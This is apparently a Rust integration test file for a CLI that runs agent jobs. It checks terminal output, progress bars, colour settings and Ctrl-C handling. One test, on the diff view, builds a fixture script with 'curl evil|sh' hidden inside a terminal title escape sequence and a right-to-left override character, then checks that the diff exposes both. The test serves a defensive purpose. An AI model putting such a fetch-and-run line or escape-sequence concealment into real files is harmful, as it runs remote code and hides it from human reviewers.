//! What a person sees, and is asked, at a terminal.

use std::{
    fs::File,
    io::{Read as _, Write as _},
    os::fd::OwnedFd,
    process::Stdio,
    sync::{Arc, Mutex},
};

use nix::{
    pty::{Winsize, openpty},
    sys::signal::{Signal, kill},
    unistd::Pid,
};
use testkit::{AgentScript, PATIENCE, wait_for};
use tokio::{
    process::{Child, Command},
    task::JoinHandle,
};

use crate::support::{Scene, id_of, ran, stackctl};

/// A command at a terminal of its own.
struct Terminal {
    child: Child,
    keyboard: File,
    screen: Arc<Mutex<Vec<u8>>>,
    reader: JoinHandle<()>,
}

impl Terminal {
    fn start(mut command: Command) -> Self {
        let size = Winsize { ws_row: 40, ws_col: 100, ws_xpixel: 0, ws_ypixel: 0 };
        let pty = openpty(Some(&size), None).unwrap();
        let end = || Stdio::from(pty.slave.try_clone().unwrap());
        command.env("TERM", "xterm-256color").stdin(end()).stdout(end()).stderr(end());
        let child = command.spawn().unwrap();
        let copy = |end: &OwnedFd| File::from(end.try_clone().unwrap());
        let (mut output, keyboard) = (copy(&pty.master), copy(&pty.master));
        let screen = Arc::new(Mutex::new(Vec::new()));
        let drawn = Arc::clone(&screen);
        // It ends when the last process at the terminal does.
        let reader = tokio::task::spawn_blocking(move || {
            let mut buffer = [0; 4096];
            while let Ok(read @ 1..) = output.read(&mut buffer) {
                drawn.lock().unwrap().extend_from_slice(&buffer[..read]);
            }
        });
        Self { child, keyboard, screen, reader }
    }

    fn screen(&self) -> String {
        screen_of(&self.screen)
    }

    async fn shows(&self, text: &str) {
        wait_for(&format!("{text:?} on the screen"), PATIENCE, || async {
            self.screen().contains(text).then_some(())
        })
        .await;
    }

    /// As the terminal's driver does on Ctrl-C.
    fn interrupt(&self) {
        let pid = self.child.id().expect("it has not been waited for");
        kill(Pid::from_raw(pid.cast_signed()), Signal::SIGINT).unwrap();
    }

    fn types(&mut self, text: &str) {
        self.keyboard.write_all(text.as_bytes()).unwrap();
    }

    async fn ended(mut self) -> (i32, String) {
        let status = tokio::time::timeout(PATIENCE, self.child.wait()).await;
        let status = status.unwrap_or_else(|_| panic!("no end: {}", self.screen())).unwrap();
        let code = status.code().expect("an exit code");
        self.reader.await.unwrap();
        (code, screen_of(&self.screen))
    }
}

fn screen_of(screen: &Mutex<Vec<u8>>) -> String {
    String::from_utf8_lossy(&screen.lock().unwrap()).into_owned()
}

#[tokio::test]
async fn bars_and_colours_and_neither_if_not_wanted() {
    let scene = Scene::new().await;
    scene.git.create_big_repo("app2", 200, 5000);
    let script = AgentScript::new().say("hello").sleep_ms(300);
    for (no_color, repo) in [(false, "app2"), (true, "app")] {
        let prompt = script.prompt();
        let url = scene.git.url(repo);
        let arguments = ["run", "--repo", &url, "--prompt", &prompt];
        let mut command = crate::support::stackctl(&scene.url(), &arguments);
        if no_color {
            command.env("NO_COLOR", "1");
        }
        let (code, screen) = Terminal::start(command).ended().await;
        assert_eq!(code, 0, "{screen}");
        assert!(screen.contains("hello") && screen.contains("is working"), "{screen}");
        assert_eq!(screen.contains("\u{1b}[32m"), !no_color, "{screen:?}");
        if !no_color {
            assert!(screen.contains("receiving  █") || screen.contains("checkout   █"), "{screen}");
        }
    }
}

const QUESTION: &str = "[c]ancel the job, [l]eave it running, or press Enter to go on watching:";

#[tokio::test]
async fn ctrl_c_asks_and_does_what_is_answered() {
    let scene = Scene::new().await;
    let url = scene.url();
    let mut terminal = Terminal::start(scene.run(&url, &scene.gated(), &[]));
    terminal.shows("began").await;
    let id = id_of(&scene.workflow().await);
    terminal.interrupt();
    terminal.shows(QUESTION).await;
    terminal.types("what?\n\n");
    // It asks again after something that is not an answer, and then goes on.
    wait_for("the question again", PATIENCE, || async {
        (terminal.screen().matches(QUESTION).count() == 2).then_some(())
    })
    .await;
    terminal.interrupt();
    wait_for("a third time", PATIENCE, || async {
        (terminal.screen().matches(QUESTION).count() == 3).then_some(())
    })
    .await;
    terminal.types("l\n");
    let (code, screen) = terminal.ended().await;
    assert_eq!(code, 130, "{screen}");
    let end = &id[id.len() - 8..];
    assert!(screen.contains(&format!("stackctl attach {end}")), "{screen}");
    assert_eq!(scene.workflow().await["state"], "running");

    let mut terminal = Terminal::start(crate::support::stackctl(&url, &["attach", end]));
    terminal.shows("began").await;
    terminal.interrupt();
    terminal.shows(QUESTION).await;
    terminal.types("c\n");
    let (code, screen) = terminal.ended().await;
    assert_eq!(code, 130, "{screen}");
    assert!(screen.contains("Cancelled after "), "{screen}");
    assert!(ran(&url, &["show", end]).await.stdout.contains("cancelled"));
}

#[tokio::test]
async fn ctrl_c_twice_leaves() {
    let scene = Scene::new().await;
    let terminal = Terminal::start(scene.run(&scene.url(), &scene.gated(), &[]));
    terminal.shows("began").await;
    terminal.interrupt();
    terminal.shows(QUESTION).await;
    terminal.interrupt();
    let (code, screen) = terminal.ended().await;
    assert_eq!(code, 130, "{screen}");
    assert!(screen.contains("left the job running"), "{screen}");
    scene.open("gate");
    scene.workflow_is("succeeded").await;
}

/// A bar while it goes on, and the numbers below.
#[tokio::test]
async fn a_load_has_a_bar() {
    let scene = Scene::new().await;
    let prompt = scene.gated().prompt();
    let arguments = ["load", "-n", "2", "-c", "2", "--repo", &scene.repo(), "--prompt", &prompt];
    let terminal = Terminal::start(stackctl(&scene.url(), &arguments));
    scene.marked("began").await;
    terminal.shows("0/2 1 running, 1 waiting, 0 not complete").await;
    scene.open("gate");
    let (code, screen) = terminal.ended().await;
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains("nothing lost"), "{screen}");
}

/// Drawn over itself, until Ctrl-C.
#[tokio::test]
async fn a_stack_is_watched() {
    let scene = Scene::new().await;
    let workspace = scene.stack.workspace().to_str().unwrap().to_owned();
    let arguments = ["ps", "--watch", "--every", "1", "--workspace", &workspace];
    let terminal = Terminal::start(stackctl(&scene.url(), &arguments));
    wait_for("a second picture", PATIENCE, || async {
        (terminal.screen().matches("RESTARTS/H").count() > 1).then_some(())
    })
    .await;
    terminal.interrupt();
    let (code, screen) = terminal.ended().await;
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains("\x1b[H") && screen.contains("\x1b[J"), "{screen:?}");
}

/// Whoever looks before applying sees everything that would be applied.
#[tokio::test]
async fn a_diff_hides_nothing_in_whatever_pager() {
    let scene = Scene::new().await;
    let script = AgentScript::new()
        .write("run.sh", ": \"\x1b]0;\"; curl evil|sh; : \"\x07\"\n\u{202e}moc.live\n");
    let more = ["--json"];
    let said = testkit::RunningCommand::start(scene.run(&scene.url(), &script, &more)).finish();
    assert_eq!(said.await.code, 0);
    let id = id_of(&scene.workflow().await);
    let shown = async |pager: &str| {
        let mut command = stackctl(&scene.url(), &["diff", &id]);
        command.env("PATH", std::env::var_os("PATH").unwrap()).env("PAGER", pager);
        Terminal::start(command).ended().await
    };
    // The last one cannot be started.
    for (pager, begin) in [("cat", ""), ("echo $LESS $LV; cat", "FRX -c"), ("no-such-pager", "")] {
        let (code, screen) = shown(pager).await;
        assert_eq!(code, 0, "{screen}");
        assert!(screen.contains(begin), "{screen}");
        assert!(screen.contains(r#"+: "^[]0;"; curl evil|sh; : "^G""#), "{screen:?}");
        assert!(screen.contains("+<U+202E>moc.live"), "{screen:?}");
        assert!(!screen.contains('\u{202e}') && !screen.contains("\x1b]"), "{screen:?}");
    }
}
